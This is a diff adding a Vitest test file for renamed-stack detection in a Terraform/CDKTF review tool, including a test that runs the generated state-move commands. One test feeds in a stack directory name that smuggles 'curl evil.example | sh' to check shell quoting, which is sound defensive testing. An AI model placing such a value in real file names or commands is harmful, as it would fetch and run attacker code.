@@ -1,0 +1,102 @@
+import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { dirname, join } from 'node:path';
+import { describe, expect, test } from 'vitest';
+import type { Estate } from '../../../../src/estate/model';
+import { emptyState } from '../../../../src/review/engine/findings/move-state';
+import { renamedFinding, renamedStacks } from '../../../../src/review/engine/findings/renamed-stack';
+import { execute, temporaryFolder } from '../../../support/program';
+import { outputOf, type Resources } from '../../outputs';
+
+const project = (id: string, more: Resources = {}): Resources => ({
+  'ovh_cloud_project_storage.A': { service_name: id, region_name: 'GRA', name: 'a' },
+  'ovh_cloud_project_storage.B': { service_name: id, region_name: 'GRA', name: 'b' },
+  ...more,
+});
+
+/** Old and new names of stacks. */
+const renames = (base: Estate, head: Estate) =>
+  renamedStacks(base, head).map(({ before, after }) => `${before.id} ${after.id}`);
+
+describe('a stack is another one under a new name', () => {
+  test('when it holds the same', () => {
+    const head = outputOf({ production: project('p'), other: project('q') });
+    expect(renames(outputOf({ prod: project('p'), other: project('q') }), head)).toEqual(['prod production']);
+  });
+
+  test('and not when it has the same shape in another project', () => {
+    expect(renames(outputOf({ dev: project('p') }), outputOf({ next: project('q') }))).toEqual([]);
+  });
+
+  test('also where names are made from that of the stack', () => {
+    const named = (id: string): Resources =>
+      project('p', { 'ovh_iam_policy.C': { name: `${id}-pipeline`, resources: ['p'] } });
+    expect(renames(outputOf({ prod: named('prod') }), outputOf({ live: named('live') }))).toEqual(['prod live']);
+    const other: Resources = { 'ovh_iam_policy.C': { name: 'next-pipeline', resources: ['q'] } };
+    expect(renames(outputOf({ prod: named('prod') }), outputOf({ next: project('p', other) }))).toEqual([]);
+  });
+
+  test('as long as four fifths are the same', () => {
+    const vracks = (...names: readonly string[]): Resources =>
+      Object.fromEntries(names.map((name) => [`ovh_vrack.${name}`, { name }]));
+    const base = outputOf({ prod: project('p', vracks('C', 'D', 'E')) });
+    expect(renames(base, outputOf({ production: project('p', vracks('C', 'D')) }))).toEqual(['prod production']);
+    expect(renames(base, outputOf({ production: project('p', vracks('C')) }))).toEqual([]);
+  });
+
+  test('once, and the likeliest', () => {
+    const vracks = Object.fromEntries(['C', 'D', 'E', 'F'].map((name) => [`ovh_vrack.${name}`, { name }]));
+    const head = outputOf({ a: project('p', { ...vracks, 'ovh_vrack.G': { name: 'G' } }), b: project('p', vracks) });
+    expect(renames(outputOf({ prod: project('p', vracks) }), head)).toEqual(['prod b']);
+    expect(renames(outputOf({ one: project('p'), two: project('p') }), outputOf({ a: project('p') }))).toHaveLength(1);
+  });
+
+  test('and not when there is nothing in it', () => {
+    expect(renames(outputOf({ a: {} }), outputOf({ b: {} }))).toEqual([]);
+  });
+});
+
+test('names in the commands are words for a shell, whatever they are', () => {
+  const stack = { id: 'a', directory: "stacks/a'; curl evil.example | sh; '" };
+  expect(emptyState(stack)).toBe(
+    `terraform -chdir='cdktf.out/stacks/a'\\''; curl evil.example | sh; '\\''' state rm $(terraform -chdir='cdktf.out/stacks/a'\\''; curl evil.example | sh; '\\''' state list)  # in the output of the base`,
+  );
+});
+
+test('the commands keep what is there: nothing is made again, and the old name holds nothing that could be destroyed', async () => {
+  const folder = temporaryFolder();
+  const environment = { ...process.env, TF_IN_AUTOMATION: '1' };
+  const resource = { terraform_data: { Main: { input: 'kept' } } };
+  const synthesize = (id: string) => {
+    const file = join(folder, 'cdktf.out', 'stacks', id, 'cdk.tf.json');
+    mkdirSync(dirname(file), { recursive: true });
+    const backend = { local: { path: `../../../state/${id}.tfstate` } };
+    writeFileSync(file, JSON.stringify({ terraform: { backend }, resource }));
+  };
+  const run = async (command: string) => {
+    const { code, text } = await execute('sh', ['-c', command], folder, environment);
+    expect(code, `${command}\n${text}`).toBe(0);
+    return text;
+  };
+  for (const id of ['prod', 'production']) synthesize(id);
+  await run(
+    'terraform -chdir=cdktf.out/stacks/prod init && terraform -chdir=cdktf.out/stacks/prod apply -auto-approve',
+  );
+
+  const [base, head] = ['prod', 'production'].map((id) =>
+    outputOf({ [id]: { 'terraform_data.Main': { input: 'kept' } } }),
+  );
+  const [found] = base && head ? renamedStacks(base, head) : [];
+  if (found === undefined) throw new Error('it is found');
+  for (const command of renamedFinding(found).doWith ?? []) await run(command);
+
+  expect(await run('terraform -chdir=cdktf.out/stacks/production plan')).toContain('No changes.');
+  const states = ['prod', 'production'].map((id) => {
+    const state = JSON.parse(readFileSync(join(folder, 'state', `${id}.tfstate`), 'utf8')) as {
+      resources: unknown[];
+      lineage: string;
+    };
+    return { resources: state.resources.length, lineage: state.lineage };
+  });
+  expect(states.map(({ resources }) => resources)).toEqual([0, 1]);
+  expect(new Set(states.map(({ lineage }) => lineage)).size).toBe(1);
+});
